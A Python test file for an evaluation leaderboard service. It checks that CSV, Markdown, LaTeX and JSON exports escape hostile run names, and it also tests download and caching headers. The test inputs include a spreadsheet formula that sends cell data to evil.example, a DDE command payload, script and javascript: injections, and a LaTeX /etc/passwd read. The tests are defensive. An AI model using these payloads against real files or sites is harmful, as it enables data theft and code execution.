"""Downloads are inert: a participant's run name does not become a spreadsheet formula, HTML in
Markdown or LaTeX commands; any task name survives Content-Disposition; every response with
per-user content says Cache-Control: private, no-store."""

from __future__ import annotations

import csv
import io
import json

from fastapi.testclient import TestClient

from evalstore.io.inert import csv_cell, latex_cell, markdown_cell
from evalstore.services import tasks
from evalstore.services.orchestration import work_on
from evalstore.web.headers import content_disposition
from tests.http.conftest import World, as_principal, run_text

FORMULA = '=HYPERLINK("https:evil.example?"&A1,"click")'


def test_csv_cells_that_begin_a_formula_are_text() -> None:
    for text in (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_cell(text) == "'" + text
    for text in ("0.1234", "-0.5", "+1e-3", "red-open", "a=b"):
        assert csv_cell(text) == text


def test_markdown_and_latex_cells_are_literal() -> None:
    assert markdown_cell("<script>alert(1)</script>") == "&lt;script&gt;alert(1)&lt;/script&gt;".replace(
        "(", "\\("
    ).replace(")", "\\)")
    assert (
        markdown_cell("[x](javascript:alert(1)) | *b*\nnext") == "\\[x\\]\\(javascript:alert\\(1\\)\\) \\| \\*b\\* next"
    )
    assert markdown_cell("red-open 0.1234") == "red-open 0.1234"
    assert latex_cell("\\input{/etc/passwd}&%$#_^~<>|\n") == (
        r"\textbackslash{}input\{/etc/passwd\}\&\%\$\#\_\textasciicircum{}\textasciitilde{}\textless{}"
        r"\textgreater{}\textbar{} "
    )


def test_a_run_named_as_a_formula_is_text_in_every_download(world: World, client: TestClient) -> None:
    for i, name in enumerate((FORMULA, "<script>alert(1)<\\script>")):
        path = world.tmp / f"hostile-{i}.txt"
        path.write_text(run_text(tag=f"h{i}", shift=i + 1))
        submitted = tasks.submit_run(world.engine, as_principal(world.engine, "red"), "open", path, name=name)
        work_on(world.engine, [submitted.job.evaluation_id], mlflow=False)
    rows = list(csv.reader(io.StringIO(client.get("/tasks/open/leaderboard.csv").text)))
    assert "'" + FORMULA in [row[1] for row in rows]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row[1:4])
    markdown = client.get("/tasks/open/leaderboard.md").text
    assert "<script>" not in markdown and "&lt;script&gt;alert\\(1\\)&lt;\\\\script&gt;" in markdown
    tex = client.get("/tasks/open/leaderboard.tex").text
    assert "\\textless{}script\\textgreater{}" in tex and "<script>" not in tex
    board = client.get("/tasks/open/leaderboard.json").text
    assert "<script>" not in board and {r["run"] for r in json.loads(board)["rows"]} >= {
        FORMULA,
        "<script>alert(1)<\\script>",
    }


def test_content_disposition_survives_quotes_and_non_ascii_names(world: World, client: TestClient) -> None:
    assert content_disposition('a"b✓.csv') == "attachment; filename=\"a_b_.csv\"; filename*=UTF-8''a%22b%E2%9C%93.csv"
    tasks.create_task(world.engine, 'trec "deep" ✓', qrels_name="sample", owner="owner")
    world.submit('trec "deep" ✓', "red-deep")
    response = client.get("/tasks/trec%20%22deep%22%20%E2%9C%93/leaderboard.csv")
    assert response.status_code == 200
    assert response.headers["content-disposition"] == (
        'attachment; filename="trec _deep_ _-leaderboard.csv"; '
        "filename*=UTF-8''trec%20%22deep%22%20%E2%9C%93-leaderboard.csv"
    )
    exported = client.get("/api/v1/qrels/sample/export", headers=world.headers("admin"))
    assert (
        exported.headers["content-disposition"] == 'attachment; filename="sample.qrels"; '
        "filename*=UTF-8''sample.qrels"
    )


def test_every_dynamic_response_says_private_no_store(world: World, client: TestClient) -> None:
    for path, caller in (
        ("/api/v1/tasks/secret/leaderboard", "owner"),
        ("/tasks/secret", "owner"),
        ("/api/v1/runs/red-secret/results", "owner"),
        ("/api/v1/me", "red"),
        ("/tasks/open/leaderboard.csv", "anon"),
        ("/api/v1/tasks/nope", "red"),
    ):
        response = client.get(path, headers=world.headers(caller))
        assert response.headers["cache-control"] == "private, no-store", path
    assert client.get("/static/style.css").headers.get("cache-control") != "private, no-store"
